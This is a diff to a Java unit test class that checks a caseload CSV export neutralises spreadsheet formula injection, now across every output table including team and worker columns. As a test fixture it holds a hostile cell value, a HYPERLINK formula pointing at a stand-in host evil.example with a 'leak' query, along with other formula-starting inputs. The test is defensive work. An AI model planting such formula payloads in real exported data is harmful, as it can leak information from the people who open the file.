@@ -13,10 +13,13 @@ import java.time.LocalDate;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
+import java.util.Optional;
 import java.util.stream.Stream;
 import org.duly.cli.handbook.Catalogue;
 import org.duly.cli.handbook.CatalogueCsv;
 import org.duly.cli.report.CaseloadFormat;
+import org.duly.cli.report.CaseloadTally;
+import org.duly.cli.report.Holder;
 import org.duly.cli.report.ScheduleFormat;
 import org.duly.cli.text.Csv;
 import org.duly.timescales.Event;
@@ -102,8 +105,8 @@ class CsvInjectionTest {
     @Test
     void a_hostile_case_id_is_neutralised_in_the_caseload_csv() throws IOException {
         String csv = CaseloadFormat.CSV.render(List.of(schedule(HYPERLINK), schedule("=1+1")));
-        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Open\"\")\",")
-                .contains(",\"'=1+1\",");
+        assertThat(csv).contains("\n\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Open\"\")\",")
+                .contains("\n\"'=1+1\",");
         List<Map<String, String>> rows = readBack(csv);
         assertThat(rows).extracting(row -> row.get("case_id")).contains("'" + HYPERLINK, "'=1+1");
         assertNoFormula(rows);
@@ -120,11 +123,23 @@ class CsvInjectionTest {
     }
 
     @Test
-    void every_free_text_column_of_the_caseload_csv_is_neutralised() throws IOException {
-        List<Map<String, String>> rows = readBack(CaseloadFormat.CSV.render(List.of(schedule("=case"))));
+    void every_free_text_column_of_every_caseload_csv_table_is_neutralised() throws IOException {
+        // Team and worker ids cannot hold a space, but can start a formula.
+        CaseloadTally tally = CaseloadTally.of(entry -> true, Optional.of(LocalDate.parse("2024-12-31")));
+        tally.add(schedule("=case"), new Holder(Optional.of("=team"), Optional.of("@worker")));
+        Map<String, String> tables = CaseloadFormat.tables(tally);
+        assertThat(tables).containsOnlyKeys("status", "areas", "overdue", "timeliness", "teams", "workers", "due");
+        List<Map<String, String>> rows = new java.util.ArrayList<>();
+        for (String table : tables.values()) {
+            rows.addAll(readBack(table));
+        }
         assertThat(rows).extracting(row -> row.get("area")).contains("'=area");
         assertThat(rows).extracting(row -> row.get("title")).contains("'=1+1 title");
         assertThat(rows).extracting(row -> row.get("case_id")).contains("'=case");
+        assertThat(rows).extracting(row -> row.get("team")).contains("'=team");
+        assertThat(rows).extracting(row -> row.get("worker")).contains("'@worker");
+        assertThat(rows).extracting(row -> row.get("reason")).filteredOn(java.util.Objects::nonNull).isNotEmpty()
+                .allSatisfy(reason -> assertThat(reason).doesNotStartWith("="));
         assertNoFormula(rows);
     }
 
